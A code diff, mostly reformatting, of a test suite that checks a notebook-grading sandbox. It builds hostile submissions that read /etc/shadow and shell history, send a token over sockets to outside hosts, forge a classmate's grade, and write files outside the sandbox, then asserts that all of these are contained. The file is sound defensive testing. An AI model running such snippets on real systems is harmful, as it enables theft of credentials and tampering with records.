@@ -47,7 +47,9 @@ def literal(value: object) -> str:
 
 def right_answers() -> dict[str, str]:
     """answer_1.. of notebook 03 as a student would type them, from the registry (the test's side)."""
-    variables = {e.exercise_id: e.variable for e in find_exercises(nbformat.read(NOTEBOOK, as_version=4))}
+    variables = {
+        e.exercise_id: e.variable for e in find_exercises(nbformat.read(NOTEBOOK, as_version=4))
+    }
     return {variables[i]: literal(expected(i)) for i in IDS}
 
 
@@ -56,7 +58,9 @@ def filled(answers: dict[str, str]) -> nbformat.NotebookNode:
     notebook = nbformat.read(NOTEBOOK, as_version=4)
     for cell in notebook.cells:
         if cell.cell_type == "code":
-            cell.source = PLACEHOLDER.sub(lambda m: f"{m['name']} = {answers[m['name']]}", cell.source)
+            cell.source = PLACEHOLDER.sub(
+                lambda m: f"{m['name']} = {answers[m['name']]}", cell.source
+            )
             cell.outputs, cell.execution_count = [], None
     return notebook
 
@@ -65,7 +69,9 @@ def small(*cells: str, kernel: str = "python3") -> nbformat.NotebookNode:
     """A short notebook: the attack's cells, then the three check cells of notebook 03."""
     notebook = nbformat.v4.new_notebook()
     notebook.cells = [nbformat.v4.new_code_cell(textwrap.dedent(c)) for c in cells]
-    notebook.cells.append(nbformat.v4.new_code_cell("from helpers.exercises import check\n" + CHECKS))
+    notebook.cells.append(
+        nbformat.v4.new_code_cell("from helpers.exercises import check\n" + CHECKS)
+    )
     notebook.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
     return notebook
 
@@ -78,14 +84,14 @@ def attacks(paths: dict[str, Path], port: int) -> dict[str, nbformat.NotebookNod
             text = str(found)
             builtins.print(text)
             try:
-                open("{paths['loot']}", "w").write(text)
+                open("{paths["loot"]}", "w").write(text)
             except Exception as error:
                 builtins.print("cannot write", error)
             raise RuntimeError(text[:200])
     """
     read_all = f"""
         found = []
-        for path in ["{paths['home_secret']}", "{paths['beside']}", "{ROOT / 'helpers' / 'exercises.py'}",
+        for path in ["{paths["home_secret"]}", "{paths["beside"]}", "{ROOT / "helpers" / "exercises.py"}",
                      "/etc/shadow", "/root/.bash_history", "/proc/1/environ"]:
             try:
                 found.append(open(path).read()[:500])
@@ -98,7 +104,7 @@ def attacks(paths: dict[str, Path], port: int) -> dict[str, nbformat.NotebookNod
         script = '''
 import time, os
 time.sleep(4)
-for path in ["{paths['csv']}", "{paths['loot']}"]:
+for path in ["{paths["csv"]}", "{paths["loot"]}"]:
     try:
         open(path, "w").write("mallory,03-the-visa-surge,03.1,1,1,Correct.\\\\n")
     except Exception:
@@ -123,7 +129,7 @@ for path in ["{paths['csv']}", "{paths['loot']}"]:
                 except Exception:
                     pass
         found += glob.glob("/tmp/**/*.json", recursive=True) + glob.glob("/scratch/run/*")
-        for path in ["{paths['alice']}", "{paths['submissions']}"]:
+        for path in ["{paths["alice"]}", "{paths["submissions"]}"]:
             try:
                 found.append(open(path).read()[:300] if os.path.isfile(path) else str(os.listdir(path)))
             except Exception as error:
@@ -141,7 +147,7 @@ for path in ["{paths['csv']}", "{paths['loot']}"]:
         for host, port in [("127.0.0.1", {port}), ("10.0.2.2", {port}), ("pypi.org", 443), ("1.1.1.1", 80)]:
             try:
                 with socket.create_connection((host, port), timeout=3) as connection:
-                    connection.sendall(b"{SECRET}")
+                    connection.sendall(b"sandbox-{TOKEN}")
                     tried.append("connected")
             except Exception as error:
                 tried.append(type(error).__name__)
@@ -182,8 +188,8 @@ for path in ["{paths['csv']}", "{paths['loot']}"]:
             f"""
             import os
             wrote = []
-            for path in ["{paths['home_secret'].parent / 'pwned.txt'}", "{paths['submissions'] / 'pwned.txt'}",
-                         "{paths['csv'].parent / 'pwned.csv'}", "/tmp/wa-pwned-{TOKEN}", "{ROOT / 'pwned.txt'}"]:
+            for path in ["{paths["home_secret"].parent / "pwned.txt"}", "{paths["submissions"] / "pwned.txt"}",
+                         "{paths["csv"].parent / "pwned.csv"}", "/tmp/wa-pwned-{TOKEN}", "{ROOT / "pwned.txt"}"]:
                 try:
                     open(path, "w").write("{TOKEN}")
                     wrote.append(path)
@@ -195,7 +201,9 @@ for path in ["{paths['csv']}", "{paths['loot']}"]:
         "detached": small(rewrite),
         "neighbour": small(neighbour),
         "socket": small(sock),
-        "memory": small("blob = bytearray(8 * 1024**3)", "answer_1 = answer_2 = answer_3 = len(blob)"),
+        "memory": small(
+            "blob = bytearray(8 * 1024**3)", "answer_1 = answer_2 = answer_3 = len(blob)"
+        ),
         "forker": small(
             """
             import os, time
@@ -225,7 +233,9 @@ for path in ["{paths['csv']}", "{paths['loot']}"]:
             kernel="bash",
         ),
         "forever": small("while True:\n    pass"),
-        "chatty": small("for _ in range(40):\n    print('x' * 1_000_000)", "answer_1 = answer_2 = answer_3 = 0"),
+        "chatty": small(
+            "for _ in range(40):\n    print('x' * 1_000_000)", "answer_1 = answer_2 = answer_3 = 0"
+        ),
         "suicide": small("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
         "notplain": small(
             "import pandas as pd\nanswer_1 = pd.DataFrame({'a': [3.96]})\nanswer_2 = [0.82]\nanswer_3 = {'flow': 1}"
@@ -238,7 +248,14 @@ def crafted() -> dict[str, str | bytes]:
     cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
 
     def notebook(*cells: object, nbformat_version: int = 4) -> str:
-        return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": nbformat_version, "nbformat_minor": 5})
+        return json.dumps(
+            {
+                "cells": list(cells),
+                "metadata": {},
+                "nbformat": nbformat_version,
+                "nbformat_minor": 5,
+            }
+        )
 
     return {
         "number_source": notebook({**cell, "source": 42}, {**cell, "source": CHECKS}),
@@ -253,7 +270,9 @@ def crafted() -> dict[str, str | bytes]:
 
 
 def snapshot(folder: Path) -> dict[str, bytes]:
-    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+    return {
+        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
+    }
 
 
 class Listener:
@@ -321,11 +340,24 @@ def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
     for student, text in crafted().items():
         submit(student, text)
     before_outside = snapshot(base)
-    before_tmp = {p.name for p in Path("/tmp").iterdir() if p.name.startswith(("wa-grade-", "wa-scratch-"))}
+    before_tmp = {
+        p.name for p in Path("/tmp").iterdir() if p.name.startswith(("wa-grade-", "wa-scratch-"))
+    }
     env = {**os.environ, "HOME": str(home)}
     started = time.monotonic()
     done = subprocess.run(
-        [sys.executable, "-m", "tools.grade", str(submissions), "--out", str(out), "--jobs", "2", "--timeout", "60"],
+        [
+            sys.executable,
+            "-m",
+            "tools.grade",
+            str(submissions),
+            "--out",
+            str(out),
+            "--jobs",
+            "2",
+            "--timeout",
+            "60",
+        ],
         cwd=ROOT,
         env=env,
         capture_output=True,
@@ -399,7 +431,9 @@ def test_reasons_say_what_happened(graded):
     assert "DataFrame" in table["notplain"]["03.1"]["reason"]
     assert "list" in table["notplain"]["03.2"]["reason"]
     assert "MemoryError" in table["memory"]["03.1"]["reason"], table["memory"]
-    assert table["suicide"]["03.1"]["reason"].startswith(("no answers could be read", "Missing")), table["suicide"]
+    assert table["suicide"]["03.1"]["reason"].startswith(("no answers could be read", "Missing")), (
+        table["suicide"]
+    )
     assert table["registry"]["03.1"]["reason"].startswith("Not answered yet"), table["registry"]
 
 
@@ -440,13 +474,17 @@ def test_nothing_is_written_outside_the_sandbox(graded):
     assert changed == [], changed
     assert not Path(f"/tmp/wa-pwned-{TOKEN}").exists()
     assert not (ROOT / "pwned.txt").exists()
-    left = {p.name for p in Path("/tmp").iterdir() if p.name.startswith(("wa-grade-", "wa-scratch-"))}
+    left = {
+        p.name for p in Path("/tmp").iterdir() if p.name.startswith(("wa-grade-", "wa-scratch-"))
+    }
     assert left <= graded["before_tmp"], left - graded["before_tmp"]
 
 
 def test_the_csv_does_not_change_after_grading_ends(graded):
     assert graded["after"] == graded["written"]
-    processes = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
+    processes = subprocess.run(
+        ["ps", "-eo", "args"], capture_output=True, text=True, check=True
+    ).stdout
     assert f"wa-detached-{TOKEN}" not in processes
 
 
@@ -496,12 +534,21 @@ def test_without_bwrap_grading_refuses_and_says_what_to_install(tmp_path: Path):
     folder.mkdir(parents=True)
     nbformat.write(small("answer_1 = answer_2 = answer_3 = 0"), folder / NOTEBOOK.name)
     out = tmp_path / "grades.csv"
-    refused = run_grade(str(tmp_path / "subs"), "--out", str(out), env={"WA_BWRAP": str(tmp_path / "no-bwrap")})
+    refused = run_grade(
+        str(tmp_path / "subs"), "--out", str(out), env={"WA_BWRAP": str(tmp_path / "no-bwrap")}
+    )
     assert refused.returncode != 0
-    assert "apt-get install bubblewrap" in refused.stderr and "--no-sandbox-i-understand" in refused.stderr
+    assert (
+        "apt-get install bubblewrap" in refused.stderr
+        and "--no-sandbox-i-understand" in refused.stderr
+    )
     assert not out.exists()
     anyway = run_grade(
-        str(tmp_path / "subs"), "--out", str(out), "--no-sandbox-i-understand", env={"WA_BWRAP": str(tmp_path / "no-bwrap")}
+        str(tmp_path / "subs"),
+        "--out",
+        str(out),
+        "--no-sandbox-i-understand",
+        env={"WA_BWRAP": str(tmp_path / "no-bwrap")},
     )
     assert anyway.returncode == 0, anyway.stderr
     rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
